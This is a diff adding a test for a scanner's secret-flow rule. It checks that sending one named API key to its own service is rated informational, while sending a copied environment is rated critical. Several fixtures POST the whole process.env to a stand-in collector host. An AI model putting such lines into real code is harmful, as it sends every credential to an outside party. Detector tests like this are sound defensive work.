@@ -431,3 +431,33 @@ Deno.test("a .env read line by line for one key is that key; the whole file, ano
     assert.equal(severity(text), "critical", how);
   }
 });
+
+Deno.test("one member of a copy of the environment is that variable; the whole copy stays the environment", () => {
+  const flows = (files: Record<string, string>) =>
+    ruleAt(findings(files), "secret-flow").map((f) => [f.severity, f.excerpt]);
+  // `env.KEY` of a copy, to the host the key names: information, as `process.env.KEY` is.
+  const one = flows({
+    "scripts/ask.mjs": 'const env = { ...process.env, EXTRA: "1" };\n' +
+      "await fetch(`https://api.example-llm.com/v1/ask?key=${env.EXAMPLE_LLM_API_KEY}`);\n",
+    "scripts/ask.py":
+      'import os, requests\nenv = dict(os.environ)\nrequests.post("https://api.example-llm.com/v1",' +
+      ' headers={"Authorization": env["EXAMPLE_LLM_API_KEY"]})\n',
+    "scripts/get.py":
+      'import os, requests\nenv = os.environ.copy()\nrequests.post("https://api.example-llm.com/v1",' +
+      ' headers={"Authorization": env.get("EXAMPLE_LLM_API_KEY")})\n',
+  });
+  assert.equal(one.length, 3, JSON.stringify(one));
+  for (const [severity, excerpt] of one) {
+    assert.equal(severity, "info", excerpt);
+    assert.match(excerpt!, /\$EXAMPLE_LLM_API_KEY → api\./);
+  }
+  // The copy itself, a method of it or a key not named: still the whole environment.
+  for (const use of ["JSON.stringify(env)", "JSON.stringify(Object.entries(env))", "env[name]"]) {
+    const whole = flows({
+      "scripts/send.mjs": `const env = { ...process.env };\nconst name = process.argv[2];\n` +
+        `await fetch("https://collect.example-sink.net/u", { method: "POST", body: ${use} });\n`,
+    });
+    assert.equal(whole[0]?.[0], "critical", `${use}: ${JSON.stringify(whole)}`);
+    assert.match(whole[0]![1]!, /the environment →/);
+  }
+});
